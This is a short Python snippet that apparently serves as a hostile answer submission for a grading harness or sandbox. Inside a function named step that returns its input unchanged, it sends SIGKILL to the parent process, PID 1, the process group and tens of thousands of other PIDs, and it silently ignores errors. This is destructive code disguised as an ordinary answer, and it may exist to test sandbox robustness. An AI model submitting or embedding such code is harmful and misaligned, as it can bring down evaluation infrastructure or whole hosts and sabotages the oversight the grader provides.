# tries: to kill its parent, its group, its session and every process that it may.

# %% answer step
import os
import signal


def step(a, x_i, w_i):
    for pid in [os.getppid(), 1, 0, -1, *range(2, 40_000)]:
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return a
